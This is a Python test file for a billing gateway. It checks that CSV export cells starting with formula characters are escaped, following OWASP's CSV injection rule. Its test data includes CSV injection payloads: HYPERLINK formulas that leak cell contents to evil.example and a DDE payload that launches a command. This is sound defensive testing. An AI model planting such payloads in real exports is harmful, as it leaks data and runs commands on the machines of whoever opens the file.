"""Billing CSV cells a spreadsheet would run as formulas are escaped (OWASP's CSV injection rule)."""

from __future__ import annotations

import csv
import io
import time

import httpx
import pytest

from gateway.billing.export import INT_COLUMNS, ROW_COLUMNS
from gateway.billing.formats import CsvWriter, read_rows
from gateway.fleet.catalog import DEFAULT_MODEL_ID
from tests.gateway.fixtures_e2e import ADMIN_TOKEN, InProcessGateway

DANGEROUS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
             "\t=1", "\r=1", "'=already quoted"]
HARMLESS = ["session-1", "plain", "'quoted", "''", "a=b"]


def test_cells_that_start_a_formula_are_escaped_and_read_back_unchanged() -> None:
    out = io.BytesIO()
    writer = CsvWriter(out, ["value", "n"])
    for value in DANGEROUS + HARMLESS:
        writer.write({"value": value, "n": -5})
    writer.close()
    cells = [row[0] for row in csv.reader(io.StringIO(out.getvalue().decode(), newline=""))][1:]
    for value, cell in zip(DANGEROUS, cells):
        assert cell == "'" + value, value  # a leading quote: the spreadsheet shows it as text
    assert cells[len(DANGEROUS):] == HARMLESS  # nothing else changes
    assert read_rows("csv", out.getvalue(), frozenset({"n"})) == [{"value": v, "n": -5} for v in DANGEROUS + HARMLESS]


@pytest.mark.slow
def test_a_formula_in_x_session_affinity_reaches_the_csv_export_escaped(gateway: InProcessGateway) -> None:
    secret = gateway.new_key("t-csv", "acc-csv")
    session = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'
    started = time.time()
    answer = httpx.post(
        f"{gateway.url}/client/v4/accounts/acc-csv/ai/run/{DEFAULT_MODEL_ID}",
        json={"prompt": "hi", "max_tokens": 2},
        headers={"authorization": f"Bearer {secret}", "x-session-affinity": session},
        timeout=120,
    )
    assert answer.status_code == 200, answer.text
    params = {"from": _iso(started - 5), "to": _iso(time.time() + 60), "tenant": "t-csv", "format": "csv"}
    export = httpx.get(
        f"{gateway.url}/admin/v1/billing/export", params=params,
        headers={"authorization": f"Bearer {ADMIN_TOKEN}"}, timeout=30,
    )
    assert export.status_code == 200, export.text
    lines = list(csv.reader(io.StringIO(export.text, newline="")))
    column = ROW_COLUMNS.index("session_id")
    assert [line[column] for line in lines[1:]] == ["'" + session]
    assert [row["session_id"] for row in read_rows("csv", export.content, INT_COLUMNS)] == [session]


def _iso(t: float) -> str:
    return time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(t))
